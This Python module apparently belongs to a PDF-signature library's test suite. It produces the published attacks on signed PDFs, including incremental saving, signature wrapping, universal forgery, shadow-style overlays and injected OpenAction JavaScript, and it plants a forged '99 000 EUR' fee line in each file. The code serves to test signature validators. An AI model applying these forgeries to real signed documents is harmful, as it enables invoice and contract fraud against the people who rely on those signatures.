"""Attacks on signed PDFs, as the literature describes them, made from any signed file of ours.

Incremental saving, signature wrapping and universal forgery are those of Mladenov et al., "1
Trillion Dollar Refund" (CCS 2019); shadow attacks those of Mainka et al. (NDSS 2021).
"""

from __future__ import annotations

import io
import re
from typing import TYPE_CHECKING

from paraphe.adapters.trust.pades.writer.document import Document, open_document
from paraphe.adapters.trust.pades.writer.fields import top_fields
from paraphe.adapters.trust.pades.writer.increment import Increment
from paraphe.adapters.trust.pades.writer.pages import find_page
from paraphe.adapters.trust.pades.writer.syntax import Dictionary, Name, Ref, Stream, Value

if TYPE_CHECKING:
    from collections.abc import Callable

FORGED = b"BT /F1 40 Tf 72 400 Td (Honoraires : 99 000 EUR) Tj ET"

Attack = "Callable[[bytes], bytes]"


def page(document: Document) -> tuple[Ref, Dictionary]:
    """The first page."""
    ref = find_page(document, 1).ref
    return ref, document.dictionary(ref, "a page")


def update(data: bytes, change: Callable[[Increment], None]) -> bytes:
    """Append an unsigned update, correctly written."""
    increment = Increment(open_document(io.BytesIO(data)))
    change(increment)
    return data + increment.unsigned()


def content(data: bytes) -> bytes:
    """The page gets another content stream."""

    def change(increment: Increment) -> None:
        ref, entries = page(increment.document)
        increment.replace(ref, {**entries, "Contents": increment.add(Stream({}, FORGED))})

    return update(data, change)


def content_in_place(data: bytes) -> bytes:
    """The content stream's own object is written anew."""

    def change(increment: Increment) -> None:
        _, entries = page(increment.document)
        contents = entries["Contents"]
        assert isinstance(contents, Ref)
        increment.replace(contents, Stream({}, FORGED))

    return update(data, change)


def annotation(data: bytes) -> bytes:
    """A free text lies over the page."""

    def change(increment: Increment) -> None:
        ref, entries = page(increment.document)
        form: Dictionary = {
            "Type": Name("XObject"),
            "Subtype": Name("Form"),
            "BBox": [0, 0, 500, 500],
        }
        note: Dictionary = {
            "Type": Name("Annot"),
            "Subtype": Name("FreeText"),
            "Rect": [0, 0, 500, 500],
            "Contents": b"99 000 EUR",
            "F": 4,
            "AP": {"N": increment.add(Stream(form, FORGED))},
        }
        listed = increment.document.array(entries.get("Annots"), "/Annots")
        increment.replace(ref, {**entries, "Annots": [*listed, increment.add(note)]})

    return update(data, change)


def new_field(data: bytes) -> bytes:
    """A text field that was not there appears, filled in."""

    def change(increment: Increment) -> None:
        field: Dictionary = {
            "Type": Name("Annot"),
            "Subtype": Name("Widget"),
            "FT": Name("Tx"),
            "T": b"Honoraires",
            "V": b"99 000 EUR",
            "Rect": [72, 400, 300, 440],
        }
        added = increment.add(field)
        _with_field(increment, added)
        ref, entries = page(increment.document)
        listed = increment.document.array(entries.get("Annots"), "/Annots")
        increment.replace(ref, {**entries, "Annots": [*listed, added]})

    return update(data, change)


def new_visible_signature_field(data: bytes) -> bytes:
    """A field for one more signature covers the page."""
    return _visible_signature_field(data, b"one-more")


def visible_field_of_a_time_stamp(data: bytes) -> bytes:
    """The same under a name that locks leave open, for the document time-stamps to come."""
    return _visible_signature_field(data, b"timestamp-07")


def _visible_signature_field(data: bytes, name: bytes) -> bytes:
    def change(increment: Increment) -> None:
        form: Dictionary = {
            "Type": Name("XObject"),
            "Subtype": Name("Form"),
            "BBox": [0, 0, 500, 500],
        }
        field: Dictionary = {
            "Type": Name("Annot"),
            "Subtype": Name("Widget"),
            "FT": Name("Sig"),
            "T": name,
            "F": 132,
            "Rect": [0, 0, 500, 500],
            "AP": {"N": increment.add(Stream(form, FORGED))},
        }
        added = increment.add(field)
        _with_field(increment, added)
        ref, entries = page(increment.document)
        listed = increment.document.array(entries.get("Annots"), "/Annots")
        increment.replace(ref, {**entries, "Annots": [*listed, added]})

    return update(data, change)


def form_value(data: bytes) -> bytes:
    """A text field's value and looks are changed (the file must have one, named `amount`)."""

    def change(increment: Increment) -> None:
        for name, ref, entries in top_fields(increment.document):
            if name == "amount":
                form: Dictionary = {
                    "Type": Name("XObject"),
                    "Subtype": Name("Form"),
                    "BBox": [0, 0, 200, 20],
                }
                looks: Dictionary = {"N": increment.add(Stream(form, FORGED))}
                increment.replace(ref, {**entries, "V": b"99 000", "AP": looks})

    return update(data, change)


def javascript(data: bytes) -> bytes:
    """The catalog runs a script when the file is opened."""
    script: Dictionary = {"S": Name("JavaScript"), "JS": b"app.alert('paid')"}
    return _catalog(data, lambda increment: {"OpenAction": increment.add(script)})


def named_javascript(data: bytes) -> bytes:
    """The catalog's names run a script."""
    script: Dictionary = {"S": Name("JavaScript"), "JS": b"this.getField('x')"}
    names: Dictionary = {"JavaScript": {"Names": [b"a", script]}}
    return _catalog(data, lambda _: {"Names": names})


def catalog_pages(data: bytes) -> bytes:
    """The catalog has another page tree."""

    def entries(increment: Increment) -> Dictionary:
        _, first = page(increment.document)
        tree = increment.add({})
        one = increment.add({**first, "Parent": tree, "Contents": _stream(increment)})
        assert isinstance(tree, Ref)
        increment.replace(tree, {"Type": Name("Pages"), "Kids": [one], "Count": 1})
        return {"Pages": tree}

    return _catalog(data, entries)


def optional_content(data: bytes) -> bytes:
    """Layers are switched."""
    settings: Dictionary = {"OCGs": [], "D": {"BaseState": Name("OFF")}}
    return _catalog(data, lambda _: {"OCProperties": settings})


def other_catalog(data: bytes) -> bytes:
    """The trailer names another catalog."""
    document = open_document(io.BytesIO(data))
    increment = Increment(document)
    copy = increment.add({**document.catalog(), "Lang": b"en"})
    made = increment.unsigned()
    old, new = document.root_ref, copy
    return data + made.replace(b"/Root %d 0 R" % old.number, b"/Root %d 0 R" % new.number)


def signature_value(data: bytes) -> bytes:
    """A signed field's value is taken away."""

    def change(increment: Increment) -> None:
        _, ref, entries = next(f for f in top_fields(increment.document) if f[2].get("V"))
        increment.replace(ref, {key: value for key, value in entries.items() if key != "V"})

    return update(data, change)


def signature_looks(data: bytes) -> bytes:
    """A signed field shows something else."""

    def change(increment: Increment) -> None:
        form: Dictionary = {
            "Type": Name("XObject"),
            "Subtype": Name("Form"),
            "BBox": [0, 0, 120, 50],
        }
        signed = [f for f in top_fields(increment.document) if f[2].get("V") and f[2].get("P")]
        _, ref, entries = signed[0]
        looks: Dictionary = {"N": increment.add(Stream(form, FORGED))}
        increment.replace(ref, {**entries, "AP": looks, "Rect": [0, 0, 500, 500]})

    return update(data, change)


def late_object(data: bytes, number: int) -> bytes:
    """The object that a signed page already named, but that did not exist, is brought."""
    increment = Increment(open_document(io.BytesIO(data)))
    increment.replace(Ref(number), Stream({}, FORGED))
    return data + increment.unsigned()


def appended_without_table(data: bytes) -> bytes:
    """Incremental saving, variant 1: objects and nothing else."""
    _, entries = page(open_document(io.BytesIO(data)))
    contents = entries["Contents"]
    assert isinstance(contents, Ref)
    body = b"%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (
        contents.number,
        len(FORGED),
        FORGED,
    )
    return data + b"\n" + body


def appended_without_xref(data: bytes) -> bytes:
    """Incremental saving, variant 2: objects and a trailer without a table."""
    document = open_document(io.BytesIO(data))
    return appended_without_table(data) + (
        b"trailer\n<</Root %d 0 R/Size %d>>\n%%%%EOF\n"
        % (document.root_ref.number, document.next_number)
    )


def copied_signature(data: bytes) -> bytes:
    """Incremental saving, variant 3: the signature is copied to the end, after other content."""
    signature = re.search(rb"\d+ 0 obj\n<<[^>]*?/Contents <[0-9A-F]+> /ByteRange[^>]*>>", data)
    assert signature is not None
    return content(data)[:-6] + b"\n" + signature[0] + b"\nendobj\n%%EOF\n"


def trailing(data: bytes) -> bytes:
    """Bytes after the end."""
    return data + b"\n%% harmless? %%\n"


def wrapped(data: bytes) -> bytes:
    """Signature wrapping: the hole grows, and what is new goes into it."""
    numbers = list(re.finditer(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\] *", data))[-1]
    gap, start, length = (int(numbers[n]) for n in (1, 2, 3))
    filler = b"\n9999 0 obj\n<<>>\nendobj\n".ljust(4096)
    made = data[: start - 1] + b">" + filler[:-1] + b">" + data[start:]
    text = b"/ByteRange [0 %d %d %d]" % (gap, start + len(filler), length)
    return made.replace(numbers[0], text.ljust(len(numbers[0])))


def forged(data: bytes, contents: bytes | None, byte_range: bytes | None) -> bytes:
    """Universal forgery: the last signature's entries replaced or missing (None: missing)."""
    found = list(re.finditer(rb" /Contents <[0-9A-F]+> /ByteRange \[[0-9 ]+\] *>>", data))[-1]
    parts = b"" if contents is None else b" /Contents " + contents
    parts += b"" if byte_range is None else b" /ByteRange " + byte_range
    filled = parts.ljust(len(found[0]) - 2) + b">>"
    return data[: found.start()] + filled + data[found.end() :]


def _catalog(data: bytes, entries: Callable[[Increment], Dictionary]) -> bytes:
    def change(increment: Increment) -> None:
        changed = {**increment.document.catalog(), **entries(increment)}
        increment.replace(increment.document.root_ref, changed)

    return update(data, change)


def _stream(increment: Increment) -> Value:
    return increment.add(Stream({}, FORGED))


def _with_field(increment: Increment, added: Ref) -> None:
    document = increment.document
    catalog = document.catalog()
    place = catalog["AcroForm"]
    form = document.dictionary(place, "the form")
    listed = document.array(form["Fields"], "/Fields")
    changed: Dictionary = {**form, "Fields": [*listed, added]}
    if isinstance(place, Ref):
        increment.replace(place, changed)
    else:
        increment.replace(document.root_ref, {**catalog, "AcroForm": changed})
